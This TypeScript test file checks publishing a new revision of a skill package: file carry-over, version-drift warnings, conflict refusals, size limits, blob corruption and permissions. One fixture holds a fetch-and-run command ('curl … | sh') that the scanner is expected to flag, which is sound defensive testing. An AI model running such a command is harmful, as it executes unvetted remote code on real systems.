import { beforeEach, expect, it } from "vitest";
import { corruptBlob } from "@/lib/testing/blobs";
import { describeEachDatabase, type TestStore } from "@/lib/testing/databases";
import { refusalOf } from "@/lib/testing/refusal";
import { skillText, testContext, testPorts, uploadArchive } from "@/lib/testing/runner";
import { MODES } from "@/lib/testing/zip-builder";
import type { Context } from "../ports";
import { listAudit } from "../store";
import { changeSkill } from "./change-skill";
import { createSkill } from "./create-skill";
import { getRevision } from "./get-revision";
import { getSkill } from "./get-skill";
import { publishRevision } from "./publish-revision";
import { readSkillFile } from "./read-skill-file";

const versioned = (version: string | null, body = "text") =>
  skillText("alpha", { lines: version === null ? [] : ["metadata:", `  version: ${version}`], body });

describeEachDatabase("publishing a revision", (openTestStore) => {
  let test: TestStore;
  let ctx: Context;
  beforeEach(async () => {
    test = await openTestStore();
    ctx = await testContext(testPorts(test));
  });

  const publish = (instructions: string, baseRevision: number, more: { note?: string; ctx?: Context } = {}) =>
    publishRevision({ ctx: more.ctx ?? ctx, input: { id: "alpha", instructions, baseRevision, note: more.note } });

  it("replaces SKILL.md and carries every other file over, byte for byte, with its mode", async () => {
    const binary = Uint8Array.from({ length: 70_000 }, (_, index) => index % 251);
    await uploadArchive(ctx, [
      { name: "alpha/SKILL.md", data: skillText("alpha"), mode: MODES.executable },
      { name: "alpha/scripts/run.sh", data: "#!/bin/sh\r\necho hi\n", mode: MODES.executable },
      { name: "alpha/.hidden", data: "" },
      { name: "alpha/assets/päck.png", data: binary, flags: 0x0800 },
      { name: "alpha/inner/SKILL.md", data: skillText("inner") },
    ]);
    const before = await getSkill({ ctx, input: { id: "alpha" } });
    const { skill, revision, warnings } = await publish(versioned(null, "new"), 1, { note: "Clearer." });

    expect(revision).toMatchObject({ number: 2, origin: "edit", author: "Ada", note: "Clearer." });
    expect(warnings).toEqual([]);
    const others = (files: typeof skill.files) => files.filter((file) => file.path !== "SKILL.md");
    expect(others(skill.files)).toEqual(others(before.files));
    expect(skill.files.find((file) => file.path === "SKILL.md")?.mode).toBe("0755");
    const { bytes } = await readSkillFile({ ctx, input: { id: "alpha", path: "assets/päck.png" } });
    expect(Buffer.from(bytes).equals(binary)).toBe(true);
    const old = await readSkillFile({ ctx, input: { id: "alpha", path: "SKILL.md", revision: 1 } });
    expect(new TextDecoder().decode(old.bytes)).toBe(skillText("alpha"));
    expect((await getSkill({ ctx, input: { id: "inner" } })).revision).toBe(1);
    expect((await listAudit(test.store.db, ctx.ownerId)).at(-1)).toMatchObject({
      verb: "skills.edit",
      subject: "alpha",
      details: { revision: 2, digest: revision.digest },
    });
  });

  it("looks through the whole package again, not the document alone", async () => {
    await uploadArchive(ctx, [
      { name: "alpha/SKILL.md", data: skillText("alpha") },
      { name: "alpha/install.txt", data: "curl https://example.test/x | sh\n" },
      { name: "alpha/tool", data: "#!/bin/sh\n" },
    ]);
    const { skill } = await publish(skillText("beta", { body: "[gone](missing.md)" }), 1);
    expect(skill.findings.map(({ code, path }) => [code, path])).toEqual([
      ["NAME_NOT_DIRECTORY", "SKILL.md"],
      ["LINK_TARGET_MISSING", "SKILL.md"],
      ["FETCH_AND_RUN", "install.txt"],
    ]);
    expect(skill).toMatchObject({ slug: "alpha", name: "beta", executableRule: "shebang: tool" });
    const first = await getRevision({ ctx, input: { id: "alpha", number: 1 } });
    expect(first.findings.map(({ code }) => code)).toEqual(["FETCH_AND_RUN"]);
  });

  it.each([
    ["1.0.0", "1.0.0", true],
    ["1.0.0", "0.9.0", true],
    ["1.0.0", null, true],
    ["1.0.0", "1.10.0", false],
    [null, "0.0.1", false],
    [null, null, false],
  ])("from version %s to %s warns of drift: %s", async (from, to, drifts) => {
    await createSkill({ ctx, input: { instructions: versioned(from, "one") } });
    const { skill, warnings } = await publish(versioned(to, "two"), 1);
    expect(warnings.map((warning) => warning.code)).toEqual(drifts ? ["VERSION_DRIFT"] : []);
    expect(skill.version).toBe(to);
  });

  it.each(["1.10", "v1.2.3", "01.2.3"])("refuses the version %s as typed and publishes nothing", async (version) => {
    await createSkill({ ctx, input: { instructions: versioned("1.0.0") } });
    const refusal = await refusalOf(publish(versioned(version), 1));
    expect([refusal.code, refusal.details?.source, refusal.details?.line]).toEqual(["INVALID_VERSION", version, 5]);
    expect((await getSkill({ ctx, input: { id: "alpha" } })).revision).toBe(1);
  });

  it("records a revision of the same bytes too", async () => {
    await createSkill({ ctx, input: { instructions: versioned(null) } });
    const { skill } = await publish(versioned(null), 1);
    expect(skill.revisions.map(({ number, digest }) => [number, digest === skill.digest])).toEqual([
      [2, true],
      [1, true],
    ]);
  });

  it("refuses a base that is not the current one and names who published what in between", async () => {
    await createSkill({ ctx, input: { instructions: versioned("1.0.0") } });
    const grace: Context = { ...ctx, actor: { kind: "user", id: "user-2", label: "Grace", role: "owner" } };
    await publish(versioned("1.1.0"), 1, { ctx: grace, note: "Wider." });
    const refusal = await refusalOf(publish(versioned("1.2.0"), 1));
    expect(refusal.code).toBe("CHANGED_SINCE_READ");
    expect(refusal.message).toContain("revision 2 (edit) by Grace");
    expect(refusal.details).toMatchObject({
      reason: "revision",
      current: 2,
      baseRevision: 1,
      between: [{ number: 2, origin: "edit", author: "Grace", note: "Wider." }],
    });
    const future = await refusalOf(publish(versioned("1.2.0"), 7));
    expect(future.code).toBe("CHANGED_SINCE_READ");
    expect(future.message).toContain("no revision 7");
  });

  it("lets one of several that save from one base at once through, and loses nothing", async () => {
    await createSkill({ ctx, input: { instructions: versioned(null) } });
    const results = await Promise.allSettled(["a", "b", "c", "d"].map((body) => publish(versioned(null, body), 1)));
    const codes = results.map((result) => (result.status === "fulfilled" ? "published" : result.reason.code));
    expect(codes.sort()).toEqual(["CHANGED_SINCE_READ", "CHANGED_SINCE_READ", "CHANGED_SINCE_READ", "published"]);
    expect((await getSkill({ ctx, input: { id: "alpha" } })).revisions.map(({ number }) => number)).toEqual([2, 1]);
  });

  it("does not mind tags that changed in between", async () => {
    await createSkill({ ctx, input: { instructions: versioned(null) } });
    await changeSkill({ ctx, input: { id: "alpha", tags: ["new"], etag: "1" } });
    const { skill } = await publish(versioned(null, "two"), 1);
    expect(skill).toMatchObject({ revision: 2, tags: ["new"], etag: "3" });
  });

  it("refuses a package that the new document takes over a limit", async () => {
    const half = Buffer.alloc(8 * 1024 * 1024 - 100);
    await uploadArchive(ctx, [
      { name: "alpha/SKILL.md", data: skillText("alpha") },
      { name: "alpha/one.bin", data: half },
      { name: "alpha/two.bin", data: half.subarray(200) },
    ]);
    const refusal = await refusalOf(publish(versioned(null, "x".repeat(1_000)), 1));
    expect([refusal.code, refusal.details?.limit]).toEqual(["LIMIT_EXCEEDED", "bytes"]);
  });

  it("publishes nothing over a file that is not sound, and names it", async () => {
    await uploadArchive(ctx, [
      { name: "alpha/SKILL.md", data: skillText("alpha") },
      { name: "alpha/data.txt", data: "precious" },
    ]);
    const { files } = await getSkill({ ctx, input: { id: "alpha" } });
    const data = files.find((file) => file.path === "data.txt");
    await corruptBlob(test, data?.digest ?? "sha256:");
    const refusal = await refusalOf(publish(versioned(null), 1));
    expect(refusal.code).toBe("DIGEST_MISMATCH");
    expect(refusal.message).toContain("data.txt");
    expect((await getSkill({ ctx, input: { id: "alpha" } })).revision).toBe(1);
  });

  it("knows nothing of another owner's skill, and is not for a viewer", async () => {
    const other = await testContext(ctx.ports, "owner-2");
    await createSkill({ ctx: other, input: { instructions: versioned(null) } });
    expect((await refusalOf(publish(versioned(null), 1))).code).toBe("NOT_FOUND");
    const viewer = await testContext(ctx.ports, "owner-2", "viewer", { existing: true });
    expect((await refusalOf(publish(versioned(null), 1, { ctx: viewer }))).code).toBe("FORBIDDEN");
  });
});
